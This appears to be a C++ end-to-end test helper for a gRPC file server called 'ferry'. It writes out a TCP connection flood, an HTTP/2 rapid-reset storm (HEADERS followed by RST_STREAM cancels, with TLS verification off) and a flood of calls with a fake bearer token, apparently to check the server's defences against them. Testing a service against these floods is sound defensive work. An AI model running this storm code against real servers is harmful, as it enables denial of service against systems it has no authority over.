#include "tests/e2e/attacker.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdint>
#include <fstream>
#include <latch>
#include <memory>
#include <optional>
#include <thread>
#include <vector>

#include <grpcpp/grpcpp.h>

#include "ferry/v1/files.grpc.pb.h"

namespace ferry::e2e {
namespace {

using Clock = std::chrono::steady_clock;

sockaddr_in ParseAddress(const std::string& address) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  auto colon = address.rfind(':');
  inet_pton(AF_INET, address.substr(0, colon).c_str(), &sa.sin_addr);
  sa.sin_port = htons(static_cast<uint16_t>(std::stoi(address.substr(colon + 1))));
  return sa;
}

// A connected TCP socket from `source_ip` (any port), or -1.
int Connect(const sockaddr_in& to, const std::string& source_ip) {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  if (!source_ip.empty()) {
    sockaddr_in from{};
    from.sin_family = AF_INET;
    inet_pton(AF_INET, source_ip.c_str(), &from.sin_addr);
    if (::bind(fd, reinterpret_cast<const sockaddr*>(&from), sizeof from) != 0) {
      ::close(fd);
      return -1;
    }
  }
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

void Frame(std::string& out, uint8_t type, uint8_t flags, uint32_t stream,
           const std::string& payload) {
  uint32_t n = static_cast<uint32_t>(payload.size());
  const unsigned char head[9] = {static_cast<unsigned char>(n >> 16),
                                 static_cast<unsigned char>(n >> 8),
                                 static_cast<unsigned char>(n),
                                 type,
                                 flags,
                                 static_cast<unsigned char>((stream >> 24) & 0x7f),
                                 static_cast<unsigned char>(stream >> 16),
                                 static_cast<unsigned char>(stream >> 8),
                                 static_cast<unsigned char>(stream)};
  out.append(reinterpret_cast<const char*>(head), sizeof head);
  out += payload;
}

// HPACK "literal header field without indexing, new name", no Huffman coding;
// every name and value here is shorter than 127 bytes.
void Literal(std::string& out, const std::string& name, const std::string& value) {
  out += '\0';
  out += static_cast<char>(name.size());
  out += name;
  out += static_cast<char>(value.size());
  out += value;
}

struct SslDeleter {
  void operator()(SSL* s) const { SSL_free(s); }
  void operator()(SSL_CTX* c) const { SSL_CTX_free(c); }
};

// One storming connection: sends HEADERS + RST_STREAM pairs until `deadline`,
// answering the server's SETTINGS and PING so the connection stays valid.
class StormConnection {
 public:
  StormConnection(SSL_CTX* ctx, int fd) : fd_(fd), ssl_(SSL_new(ctx)) {
    SSL_set_fd(ssl_.get(), fd_);
  }
  ~StormConnection() { ::close(fd_); }

  bool Handshake() {
    if (SSL_connect(ssl_.get()) != 1) return false;
    fcntl(fd_, F_SETFL, fcntl(fd_, F_GETFL) | O_NONBLOCK);
    std::string start = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    Frame(start, 4, 0, 0, "");
    return Send(start);
  }

  // Returns false once the server has closed the connection.
  bool Storm(const std::string& authority, const std::string& path, Clock::time_point deadline,
             long* streams) {
    std::string block;
    Literal(block, ":method", "POST");
    Literal(block, ":scheme", "https");
    Literal(block, ":path", path);
    Literal(block, ":authority", authority);
    Literal(block, "content-type", "application/grpc");
    Literal(block, "te", "trailers");
    const std::string cancel("\0\0\0\x08", 4);
    while (Clock::now() < deadline) {
      std::string batch;
      for (int i = 0; i < 64; ++i) {
        Frame(batch, 1, 0x4, next_stream_, block);  // HEADERS, END_HEADERS
        Frame(batch, 3, 0, next_stream_, cancel);   // RST_STREAM, CANCEL
        next_stream_ += 2;
      }
      if (!Send(batch)) return false;
      *streams += 64;
      if (!Drain()) return false;
    }
    return true;
  }

 private:
  // Writes all of `data`, reading what the server sends meanwhile.
  bool Send(const std::string& data) {
    size_t done = 0;
    while (done < data.size()) {
      int n = SSL_write(ssl_.get(), data.data() + done, static_cast<int>(data.size() - done));
      if (n > 0) {
        done += static_cast<size_t>(n);
        continue;
      }
      int err = SSL_get_error(ssl_.get(), n);
      if (err != SSL_ERROR_WANT_WRITE && err != SSL_ERROR_WANT_READ) return false;
      if (!Drain()) return false;
      pollfd p{fd_, POLLOUT | POLLIN, 0};
      if (::poll(&p, 1, 1000) < 0) return false;
      if (p.revents & (POLLHUP | POLLERR)) return false;
    }
    return true;
  }

  // Reads whatever has arrived; false on EOF, an error or GOAWAY.
  bool Drain() {
    char buf[16384];
    for (;;) {
      int n = SSL_read(ssl_.get(), buf, sizeof buf);
      if (n > 0) {
        in_.append(buf, static_cast<size_t>(n));
        if (!ParseFrames()) return false;
        continue;
      }
      int err = SSL_get_error(ssl_.get(), n);
      return err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE;
    }
  }

  bool ParseFrames() {
    std::string replies;
    while (in_.size() >= 9) {
      auto byte = [&](size_t i) { return static_cast<unsigned char>(in_[i]); };
      size_t len = (size_t{byte(0)} << 16) | (size_t{byte(1)} << 8) | byte(2);
      if (in_.size() < 9 + len) break;
      uint8_t type = byte(3), flags = byte(4);
      std::string payload = in_.substr(9, len);
      in_.erase(0, 9 + len);
      if (type == 7) return false;                                      // GOAWAY
      if (type == 4 && !(flags & 1)) Frame(replies, 4, 1, 0, "");       // SETTINGS ACK
      if (type == 6 && !(flags & 1)) Frame(replies, 6, 1, 0, payload);  // PING ACK
    }
    return replies.empty() || Send(replies);
  }

  int fd_;
  std::unique_ptr<SSL, SslDeleter> ssl_;
  std::string in_;
  uint32_t next_stream_ = 1;
};

}  // namespace

bool AllowDescriptors(long n) {
  rlimit limit{};
  getrlimit(RLIMIT_NOFILE, &limit);
  if (limit.rlim_max < static_cast<rlim_t>(n)) return false;
  limit.rlim_cur = limit.rlim_max;
  return setrlimit(RLIMIT_NOFILE, &limit) == 0;
}

FloodResult BareConnectionFlood(const std::string& address, const std::string& source_ip, int count,
                                std::chrono::milliseconds duration,
                                std::chrono::milliseconds hold) {
  FloodResult result;
  sockaddr_in to = ParseAddress(address);
  std::vector<int> fds;
  auto deadline = Clock::now() + duration;
  while (result.opened + result.failed < count && Clock::now() < deadline) {
    int fd = Connect(to, source_ip);
    if (fd < 0) {
      ++result.failed;
      continue;
    }
    ++result.opened;
    fds.push_back(fd);
  }
  std::this_thread::sleep_for(hold);
  for (int fd : fds) ::close(fd);
  return result;
}

ResetStormResult ResetStorm(const std::string& address, const std::string& source_ip,
                            const std::string& path, int connections,
                            std::chrono::milliseconds duration) {
  // A connection the server cuts must not end this process.
  ::signal(SIGPIPE, SIG_IGN);
  std::unique_ptr<SSL_CTX, SslDeleter> ctx(SSL_CTX_new(TLS_client_method()));
  SSL_CTX_set_verify(ctx.get(), SSL_VERIFY_NONE, nullptr);
  static const unsigned char kAlpn[] = {2, 'h', '2'};
  SSL_CTX_set_alpn_protos(ctx.get(), kAlpn, sizeof kAlpn);
  sockaddr_in to = ParseAddress(address);
  auto deadline = Clock::now() + duration;
  std::atomic<int> connected{0}, closed{0};
  std::atomic<long> streams{0};
  // Every connection is set up before any storms: the server cuts every
  // connection from the source once it sees one storm, and refuses new ones.
  std::latch set_up(connections);
  std::vector<std::thread> threads;
  for (int i = 0; i < connections; ++i) {
    threads.emplace_back([&] {
      int fd = Connect(to, source_ip);
      std::optional<StormConnection> c;
      if (fd >= 0) c.emplace(ctx.get(), fd);
      const bool ready = c && c->Handshake();
      set_up.arrive_and_wait();
      if (!ready) return;
      ++connected;
      long sent = 0;
      if (!c->Storm(address, path, deadline, &sent)) ++closed;
      streams += sent;
    });
  }
  for (auto& t : threads) t.join();
  return {connected.load(), streams.load(), closed.load()};
}

BadTokenResult BadTokenCalls(const std::string& address, const std::string& ca_cert_file,
                             int in_flight, std::chrono::milliseconds duration) {
  std::ifstream in(ca_cert_file);
  std::string pem((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  grpc::SslCredentialsOptions ssl;
  ssl.pem_root_certs = pem;
  grpc::ChannelArguments args;
  args.SetSslTargetNameOverride("ferry-server");
  auto channel = grpc::CreateCustomChannel(address, grpc::SslCredentials(ssl), args);
  auto stub = ferry::v1::Files::NewStub(channel);
  auto deadline = Clock::now() + duration;
  std::atomic<long> calls{0}, unauthenticated{0}, other{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < in_flight; ++i) {
    threads.emplace_back([&] {
      while (Clock::now() < deadline) {
        grpc::ClientContext ctx;
        ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(10));
        ctx.AddMetadata("authorization", "Bearer made-up-token");
        ferry::v1::StatRequest request;
        request.set_path("anything");
        ferry::v1::StatResponse response;
        auto status = stub->Stat(&ctx, request, &response);
        ++calls;
        (status.error_code() == grpc::StatusCode::UNAUTHENTICATED ? unauthenticated : other)++;
      }
    });
  }
  for (auto& t : threads) t.join();
  return {calls.load(), unauthenticated.load(), other.load()};
}

}  // namespace ferry::e2e
